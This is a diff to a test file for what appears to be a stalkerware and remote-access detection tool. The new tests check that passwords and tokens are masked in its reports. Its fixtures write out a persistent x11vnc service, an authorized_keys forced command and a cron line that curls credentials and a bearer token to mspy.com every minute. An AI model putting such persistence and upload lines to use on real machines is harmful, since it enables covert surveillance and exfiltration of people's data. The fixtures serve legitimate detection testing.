@@ -28,6 +28,7 @@ from techcheck.collectors.base import Collector, Context
 from techcheck.collectors.macos.tcc import MacTcc
 from techcheck.engine import Matcher
 from techcheck.feeds import FeedError, import_feed
+from techcheck.masking import mask_text
 from techcheck.report.html import render_html
 from techcheck.report.model import build_report
 from techcheck.report.text import render_text
@@ -37,9 +38,11 @@ from techcheck.target import FakeTarget, detect_os, open_image
 from techcheck.target.base import Target
 from techcheck.target.budget import ReadBudget
 from techcheck.target.sqlite import QueryLimits, QueryRefused
-from tests.conftest import REPO
+from tests.browser_fixtures import chrome_history
+from tests.browser_fixtures import linux_image as browser_image
+from tests.conftest import REPO, write
 from tests.macos_tree import collect, mac_skeleton, make_tcc_db
-from tests.reportdata import hostile_scan
+from tests.reportdata import hostile_scan, save_scan
 
 RULE = """\
 id: test.hostile.x11vnc
@@ -433,3 +436,66 @@ def test_the_read_budget_can_be_set_on_the_command_line(tmp_path: Path) -> None:
     assert res.exit_code == 0, res.output
     res = scan_to(root, tmp_path / "r.json", "--read-budget", "1")
     assert res.exit_code == 2 and "--read-budget" in res.output
+
+
+# --- item 9: secrets in evidence -----------------------------------------------------------------
+
+SECRETS = ("hunter2", "pa55word", "eyJhbGciOi.SECRET", "topsecret9", "sess10n-t0ken", "s3cr3t-store")
+
+
+def secret_laden_image(root: Path) -> Path:
+    browser_image(root, "ana")
+    write(root, "etc/systemd/system/vnc.service",
+          "[Service]\nExecStart=/usr/bin/x11vnc -forever -passwd hunter2 -storepasswd s3cr3t-store /tmp/p\n"
+          "[Install]\nWantedBy=multi-user.target\n")
+    write(root, "etc/cron.d/sync",
+          "* * * * * root curl -u ana:pa55word -H 'Authorization: Bearer eyJhbGciOi.SECRET' "
+          "https://mspy.com/upload?key=sess10n-t0ken\n")
+    write(root, "home/ana/.ssh/authorized_keys",
+          'command="/usr/bin/x11vnc -passwd topsecret9",no-pty ssh-ed25519 '
+          "AAAAC3NzaC1lZDI1NTE5AAAAIGx0aWNrZXRfZm9yX3Rlc3RzX29ubHlfbm90X2FfcmVhbF9rZXk= ana@laptop\n")
+    profile = root / "home/ana/.config/google-chrome/Default"
+    profile.mkdir(parents=True)
+    (profile / "Preferences").write_text("{}")
+    chrome_history(profile / "History", [("https://mspy.com/login?session=sess10n-t0ken#x", "Log in",
+                                          "2024-05-01T10:00:00+00:00")])
+    return root
+
+
+def test_secrets_are_masked_in_every_report_format(tmp_path: Path) -> None:
+    root = secret_laden_image(tmp_path / "img")
+    shown = {fmt: save_scan(tmp_path, root, f"r.{fmt}", fmt=fmt).read_text(encoding="utf-8")
+             for fmt in ("json", "html", "text")}
+    for fmt, content in shown.items():
+        for secret in SECRETS:
+            assert secret not in content, (fmt, secret)
+    report = json.loads(shown["json"])
+    evidence = [e for f in report["findings"] for e in f["evidence"]]
+    commands = {e["fields"].get("command", "") for e in evidence}
+    assert any("-passwd **** -storepasswd **** /tmp/p" in c for c in commands), commands
+    assert "-u ana:**** -H 'Authorization: Bearer ****' https://mspy.com/upload" in shown["json"]
+    assert 'command=\\"/usr/bin/x11vnc -passwd ****\\",no-pty' in shown["json"]
+    visits = [e for e in evidence if e["kind"] == "web_visit"]
+    assert visits and all(e["fields"]["url"] == "https://mspy.com/login" and e["masked"] == ["url"] for e in visits)
+    assert "masking" in report["evidence_record"]
+    assert "-passwd ****" in shown["text"] and "-passwd ****" in shown["html"]
+
+
+@pytest.mark.parametrize(("raw", "masked"), [
+    ("x11vnc -passwd hunter2 -display :0", "x11vnc -passwd **** -display :0"),
+    ("app --password=abc --db_pass 'a b' --user bob", "app --password=**** --db_pass **** --user bob"),
+    ("curl --user alice:pw https://h.example/p?q=1", "curl --user alice:**** https://h.example/p"),
+    ("Authorization: Basic YWxhZGRpbjpvcGVu", "Authorization: Basic ****"),
+    ("env API_TOKEN=abc VNC_PASSWORD=\"x y\" run", "env API_TOKEN=**** VNC_PASSWORD=**** run"),
+    ("https://u:p@[::1]:8080/a/b?c#d", "https://[::1]:8080/a/b"),
+])
+def test_masking_keeps_the_option_name_and_replaces_the_value(raw: str, masked: str) -> None:
+    assert mask_text(raw) == masked
+
+
+@pytest.mark.parametrize("ordinary", [
+    "/usr/bin/x11vnc -forever -rfbauth /home/ana/.vnc/passwd -display :0", "--bypass-cache --password-file /p",
+    "ssh -p 22 host", "https://mspy.com/login", "PWD=/home/ana", "/usr/lib/passwd-helper --token-file t",
+])
+def test_masking_leaves_ordinary_text_alone(ordinary: str) -> None:
+    assert mask_text(ordinary) == ordinary
